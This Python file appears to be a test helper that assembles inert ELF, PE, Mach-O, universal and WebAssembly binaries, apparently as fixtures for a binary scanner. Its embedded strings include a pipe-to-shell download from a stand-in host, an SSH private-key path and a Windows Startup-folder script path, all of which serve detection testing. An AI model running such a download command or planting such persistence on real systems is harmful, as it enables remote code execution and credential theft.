"""Programs that the tests make themselves: headers and tables, and not one instruction."""

import struct

LIBRARIES = ("libfirst.so.1", "libsecond.so.2")
FUNCTIONS = ("execve", "connect", "strlen")
TEXTS = b"\0curl -s https://drop.example.invalid/x | sh\0/home/u/.ssh/id_rsa\0~/.bashrc\x00192.0.2.7:8080\0"


def elf(*, wide: bool = True, order: str = "<", texts: bytes = TEXTS) -> bytes:
    """Return an ELF library that loads ``LIBRARIES`` and imports ``FUNCTIONS``."""
    word = order + ("Q" if wide else "I")
    names = b"\0" + b"\0".join(name.encode() for name in (*LIBRARIES, *FUNCTIONS)) + b"\0"
    head, entry = (64, 56) if wide else (52, 32)
    at_names = head + 2 * entry
    symbols = b"".join(_symbol(order, wide, names.index(name.encode())) for name in FUNCTIONS)
    at_symbols = at_names + len(names)
    dynamic = b"".join(
        struct.pack(word, tag) + struct.pack(word, value)
        for tag, value in (*((1, names.index(name.encode())) for name in LIBRARIES), (5, at_names), (0, 0))
    )
    at_dynamic = at_symbols + len(symbols)
    at_sections = at_dynamic + len(dynamic) + len(texts)
    sections = _section(order, wide, 0, 0, 0, 0)
    sections += _section(order, wide, 11, at_symbols, len(symbols), 2) + _section(
        order, wide, 3, at_names, len(names), 0
    )
    size = at_sections + len(sections)
    segments = _segment(order, wide, 1, 5, 0, size) + _segment(order, wide, 2, 6, at_dynamic, len(dynamic))
    header = b"\x7fELF" + bytes((2 if wide else 1, 1 if order == "<" else 2, 1)) + bytes(9)
    header += struct.pack(order + "HHI", 3, 62, 1) + struct.pack(word, 0)
    header += struct.pack(word, head) + struct.pack(word, at_sections)
    header += struct.pack(order + "IHHHHHH", 0, head, entry, 2, 64 if wide else 40, 3, 0)
    return header + segments + names + symbols + dynamic + texts + sections


def _symbol(order: str, wide: bool, name: int) -> bytes:
    return (
        struct.pack(order + "IBBHQQ", name, 0x12, 0, 0, 0, 0)
        if wide
        else struct.pack(order + "IIIBBH", name, 0, 0, 0x12, 0, 0)
    )


def _section(order: str, wide: bool, kind: int, offset: int, size: int, link: int) -> bytes:
    word = "Q" if wide else "I"
    return struct.pack(f"{order}II{word}{word}{word}{word}II{word}{word}", 0, kind, 0, 0, offset, size, link, 0, 0, 0)


def _segment(order: str, wide: bool, kind: int, flags: int, offset: int, size: int) -> bytes:
    if wide:
        return struct.pack(order + "IIQQQQQQ", kind, flags, offset, offset, offset, size, size, 1)
    return struct.pack(order + "IIIIIIII", kind, offset, offset, offset, size, size, flags, 1)


def pe(*, wide: bool = True, code: bytes = b"", overlay: bytes = b"") -> bytes:
    """Return a PE image that imports two functions by name and one by number, one of them delayed."""
    base, width = 0x1000, 8 if wide else 4
    table = bytearray(20 * 2 + 32 * 2)
    body = bytearray()

    def add(data: bytes) -> int:
        at = base + len(table) + len(body)
        body.extend(data)
        return at

    run = add(b"\0\0CreateProcessW\0")
    listed = add(b"".join(n.to_bytes(width, "little") for n in (run, 1 << (8 * width - 1) | 7, 0)))
    struct.pack_into("<IIIII", table, 0, listed, 0, 0, add(b"KERNEL32.dll\0"), listed)
    sent = add(b"\0\0WinHttpConnect\0")
    delayed = add(b"".join(n.to_bytes(width, "little") for n in (sent, 0)))
    struct.pack_into("<IIIIIIII", table, 40, 1, add(b"WINHTTP.dll\0"), 0, 0, delayed, 0, 0, 0)
    add("C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.vbs".encode("utf-16-le"))
    data = bytes(table + body)
    directories = [(0, 0)] * 16
    directories[1], directories[13] = (base, 40), (base + 40, 64)
    optional = struct.pack("<H", 0x20B if wide else 0x10B) + bytes((110 if wide else 94) - 4) + struct.pack("<I", 16)
    optional = optional[: (108 if wide else 92)] + struct.pack("<I", 16)
    optional += b"".join(struct.pack("<II", *one) for one in directories)
    head = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0"
    head += struct.pack("<HHIIIHH", 0x8664, 2, 0, 0, 0, len(optional), 0x2022) + optional
    start = len(head) + 80
    for name, address, content, flags in ((b".rdata", base, data, 0x40000040), (b".text", 0x100000, code, 0x60000020)):
        head += struct.pack("<8sIIIIIIHHI", name, len(content), address, len(content), start, 0, 0, 0, 0, flags)
        start += len(content)
    return head + data + code + overlay


def macho(*, wide: bool = True) -> bytes:
    """Return a Mach-O program that loads one library and imports two functions."""
    library = _padded(struct.pack("<IIII", 24, 0, 0, 0) + b"/usr/lib/libSystem.B.dylib\0")
    command = struct.pack("<II", 0xC, 8 + len(library)) + library
    names = b"\0_posix_spawn\0_strlen\0_OBJC_CLASS_$_NSURLSession\0"
    head = 32 if wide else 28
    at_symbols = head + len(command) + 24
    where = (1, names.index(b"_strlen"), names.index(b"_OBJC"))
    symbols = b"".join(struct.pack("<IBBHQ" if wide else "<IBBHI", at, 1, 0, 0, 0) for at in where)
    symtab = struct.pack("<IIIIII", 2, 24, at_symbols, len(where), at_symbols + len(symbols), len(names))
    magic = 0xFEEDFACF if wide else 0xFEEDFACE
    header = struct.pack("<IIIIIII", magic, 7, 3, 2, 2, len(command) + 24, 0) + (bytes(4) if wide else b"")
    return header + command + symtab + symbols + names


def _padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % 8)


def fat(*programs: bytes) -> bytes:
    """Return a universal file of several programs."""
    at = 8 + 20 * len(programs)
    head, body = b"\xca\xfe\xba\xbe" + struct.pack(">I", len(programs)), b""
    for number, program in enumerate(programs):
        head += struct.pack(">IIIII", 7 + number, 3, at + len(body), len(program), 0)
        body += program
    return head + body


def number(value: int) -> bytes:
    """Return an unsigned LEB128 number."""
    found = bytearray()
    while value > 0x7F:
        found.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes((*found, value))


def _name(text: str) -> bytes:
    return number(len(text.encode())) + text.encode()


def _wasm_section(kind: int, content: bytes) -> bytes:
    return bytes((kind,)) + number(len(content)) + content


def wasm(data: bytes = TEXTS) -> bytes:
    """Return a WebAssembly module with an import of every kind and one segment of data."""
    imports = (
        _name("env") + _name("emscripten_run_script") + b"\0\0",
        _name("env") + _name("table") + b"\1\x70\1\1\2",
        _name("env") + _name("typed") + b"\1\x63\0\0\1",
        _name("env") + _name("memory") + b"\2\0\1",
        _name("./glue.js") + _name("global") + b"\3\x7f\0",
        _name("./glue.js") + _name("tag") + b"\4\0\0",
        _name("wasi_snapshot_preview1") + _name("sock_connect") + b"\0\0",
    )
    module = b"\0asm\1\0\0\0" + _wasm_section(1, number(1) + b"\x60\0\0")
    module += _wasm_section(2, number(len(imports)) + b"".join(imports))
    return module + _wasm_section(11, b"\1\0\x41\0\x0b" + number(len(data)) + data)


def component(*modules: bytes) -> bytes:
    """Return a component that holds modules and imports an interface."""
    inside = b"".join(_wasm_section(1, module) for module in modules)
    return (
        b"\0asm\x0d\0\1\0" + inside + _wasm_section(10, b"\1\0" + _name("wasi:http/outgoing-handler@0.2.0") + b"\1\0")
    )
